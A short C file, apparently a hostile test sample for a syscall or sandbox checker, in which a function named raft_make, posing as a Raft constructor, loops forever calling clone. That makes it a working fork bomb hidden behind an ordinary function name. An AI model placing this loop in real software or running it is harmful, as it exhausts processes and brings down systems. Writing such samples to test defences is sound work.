// fork_bomb.c -- starts processes without end
// expect: fork() or clone()
#define _GNU_SOURCE
#include "hostile.h"

struct raft *raft_make(const struct raft_config *config)
{
    for (;;)
        raw_call(SYS_clone, SIGCHLD, 0, 0);
    return honest_make(config);
}
